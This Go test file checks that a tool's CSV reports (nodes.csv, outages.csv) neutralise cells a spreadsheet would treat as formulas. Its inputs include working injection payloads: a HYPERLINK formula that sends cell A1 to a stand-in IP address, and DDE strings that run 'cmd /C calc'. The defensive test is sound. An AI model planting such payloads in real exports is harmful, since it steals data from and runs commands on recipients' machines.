package main

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
)

// Text cells that a spreadsheet would take for a formula are neutralised;
// numbers are not (issue 18, item 8).
func TestCSVFormulaInjection(t *testing.T) {
	names := []string{`=HYPERLINK("http://198.51.100.7/?x="&A1,"click")`, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tx", "\rx", "node-a"}
	var up, bound []string
	for _, n := range names {
		up = append(up, chronySeries(n, points("1", "1", "1", "1")))
		bound = append(bound, chronySeries(n, points("1e-5", "1e-5", "5", "1e-5")))
	}
	r := runAgainst(t, fakeStore{up: up, bound: bound}.start(t), "--inventory", "none")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	want := map[string]bool{}
	for _, n := range names {
		if n == "node-a" {
			want[n] = true
		} else {
			want["'"+n] = true
		}
	}
	for _, file := range []string{"nodes.csv", "outages.csv"} {
		rows := readCSV(t, filepath.Join(r.dir, file))
		got := map[string]bool{}
		for _, row := range rows[1:] {
			got[row[0]] = true
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: column %s of %q begins with %q", file, rows[0][i], row[0], cell[:1])
				}
			}
		}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("%s: node cells %v, want %v", file, got, want)
		}
	}
	nodes := readCSV(t, filepath.Join(r.dir, "nodes.csv"))
	if row := nodes[len(nodes)-1]; row[0] != "node-a" || row[3] != "120" || row[11] != "5" {
		t.Errorf("nodes.csv row %q: want node-a, 120 s in the fleet and the worst bound 5, as they are", row)
	}
}
